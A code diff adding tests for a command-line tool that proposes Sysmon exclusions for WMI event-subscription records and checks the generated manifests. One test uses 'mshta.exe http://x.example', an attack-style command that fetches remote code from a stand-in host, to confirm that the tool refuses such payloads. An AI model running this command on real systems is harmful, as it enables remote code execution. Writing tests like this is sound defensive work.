@@ -80,6 +80,77 @@ with this manifest makes Sysmon drop exactly these subscriptions.
   });
 });
 
+const EVENTS = [
+  `{"EventID":19,"UtcTime":"2026-01-01 00:00:00.000","Operation":"Created","EventNamespace":" \\"root\\\\\\\\cimv2\\"","Name":" \\"F\\"","Query":" \\"select * from X\\""}`,
+  `{"EventID":20,"UtcTime":"2026-01-01 00:00:00.000","Operation":"Created","Name":" \\"C\\"","Type":"Command Line","Destination":" \\"a.exe\\""}`,
+  `{"EventID":21,"UtcTime":"2026-01-31 00:00:00.000","Operation":"Created","Consumer":" \\"CommandLineEventConsumer.Name=\\\\\\"C\\\\\\"\\"","Filter":" \\"__EventFilter.Name=\\\\\\"F\\\\\\"\\""}`,
+].join('\n');
+
+describe('exclusions collect', () => {
+  beforeEach(() => {
+    workplace.write('events.jsonl', EVENTS);
+  });
+
+  test('writes a manifest, and says on standard error what excluding would save', async () => {
+    const { code, stdout, stderr } = await workplace.run(['exclusions', 'collect', 'events.jsonl'], { today });
+    expect(code).toBe(0);
+    expect(stdout).toContain('  - id: c\n    product: REPLACE_ME\n');
+    expect(stderr).toBe(`proposed
+   F → C   3 events in 30 days
+
+Excluding what is proposed would save 3 of 3 events in 30 days, 3.0 a month and
+host. That is what is to be expected (0 to 5 a month): log them all, and filter
+in the SIEM if at all ("appliesTo: siem").
+`);
+  });
+
+  test('leads to a file that drops exactly the recorded events', async () => {
+    const args = ['--verified-by', 'A. Admin', '--ticket', 'SEC-1', '--out', 'new.yaml'];
+    await workplace.run(['exclusions', 'collect', 'events.jsonl', ...args], { today });
+    expect((await workplace.run(['exclusions', 'check', 'new.yaml'], { today })).code).toBe(1);
+    workplace.write('new.yaml', workplace.read('new.yaml').replaceAll('REPLACE_ME', 'Agent'));
+    expect((await workplace.run(['exclusions', 'check', 'new.yaml'], { today })).code).toBe(0);
+    const generated = await workplace.run(['generate', 'log-all', '--exclusions', 'new.yaml'], { today });
+    workplace.write('new.xml', generated.stdout);
+    const { stdout } = await workplace.run(['evaluate', 'new.xml', 'events.jsonl', '--format', 'json']);
+    const verdicts = stdout
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as { readonly logged: boolean });
+    expect(verdicts.map(({ logged }) => logged)).toEqual([false, false, false]);
+  });
+
+  test('refuses a payload that looks like an attack', async () => {
+    workplace.write('events.jsonl', EVENTS.replace('a.exe', 'mshta.exe http://x.example'));
+    const refused = await workplace.run(['exclusions', 'collect', 'events.jsonl'], { today });
+    expect(refused.stdout).toContain('exclusions: []');
+    expect(refused.stderr).toContain('refused, it looks like an attack\n   F → C');
+    const accepted = await workplace.run(['exclusions', 'collect', 'events.jsonl', '--accept-risk', 'known'], {
+      today,
+    });
+    expect(accepted.stdout).toContain('why: "accepted risk: known"');
+  });
+
+  test('gives JSON as its schema describes', async () => {
+    const { stdout } = await workplace.run(['exclusions', 'collect', 'events.jsonl', '--format', 'json'], { today });
+    expect(violations('exclusions-collect.schema.json', JSON.parse(stdout))).toEqual([]);
+  });
+
+  test('says where events cannot be read, and goes on', async () => {
+    workplace.write('events.jsonl', `${EVENTS}\n{"EventID":`);
+    const { code, stdout, stderr } = await workplace.run(['exclusions', 'collect', 'events.jsonl'], { today });
+    expect([code, stdout.includes('id: c')]).toEqual([1, true]);
+    expect(stderr).toMatch(/^events\.jsonl:4:\d+: /);
+  });
+
+  test('never overwrites without --force', async () => {
+    const args = ['exclusions', 'collect', 'events.jsonl', '--out', 'exclusions.yaml'];
+    expect((await workplace.run(args, { today })).code).toBe(2);
+    expect(workplace.read('exclusions.yaml')).toBe(MANIFEST);
+    expect((await workplace.run([...args, '--force'], { today })).code).toBe(0);
+  });
+});
+
 describe('generate', () => {
   test.each(['precise', 'single-event'])(
     'excludes by the strategy %s what is verified, and lints clean',
